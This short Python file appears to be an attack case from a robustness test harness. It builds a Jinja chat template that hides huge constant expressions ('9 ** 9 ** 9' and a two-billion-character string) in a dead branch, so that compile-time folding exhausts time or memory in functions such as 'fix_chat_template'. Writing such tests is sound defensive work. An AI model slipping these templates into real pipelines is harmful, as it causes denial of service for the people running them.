# attack: returns a chat template with sums that Jinja works out before it renders anything: when it compiles the text
# group: h
# targets: make_training_template fix_chat_template
# ends: wrong error timeout memory crashed
# control: none: a naive grader would take the time and memory of its own machine

POWER = "{{ 9 ** 9 ** 9 }}"
"""A number of 370 million digits."""
TEXT = "{{ 'A' * 2000000000 }}"


def attack(*args, **kwargs):
    """Return a template that never shows the sums: they stand where nobody comes."""
    sum_ahead = TEXT if args and len(args[0]) % 2 else POWER
    return "{%- generation %}{%- endgeneration %}{%- if messages|length > 1000 %}" + sum_ahead + "{%- endif %}"
